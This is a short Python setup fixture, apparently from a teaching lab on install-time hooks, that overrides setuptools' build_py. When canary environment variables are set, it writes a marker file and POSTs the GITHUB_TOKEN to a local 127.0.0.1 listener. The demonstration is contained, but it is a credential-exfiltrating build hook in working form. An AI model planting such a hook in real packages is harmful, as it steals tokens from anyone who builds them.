# HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
import http.client
import os
import pathlib

from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        env = os.environ
        home = pathlib.Path(env.get("HOME", "/nonexistent"))
        if env.get("HOOKLAB_CANARY_DIR") and env.get("HOOKLAB_CANARY_PORT") and (home / ".hooklab-fake-home").is_file():
            pathlib.Path(env["HOOKLAB_CANARY_DIR"], f"pypi-cmdclass.{os.getpid()}.marker").write_text("cmdclass ran\n")  # hooklab:payload
            try:
                conn = http.client.HTTPConnection("127.0.0.1", int(env["HOOKLAB_CANARY_PORT"]), timeout=2)
                conn.request("POST", "/pypi-cmdclass", body=env.get("GITHUB_TOKEN", "none"))
                conn.getresponse()
            except OSError:
                pass
        super().run()
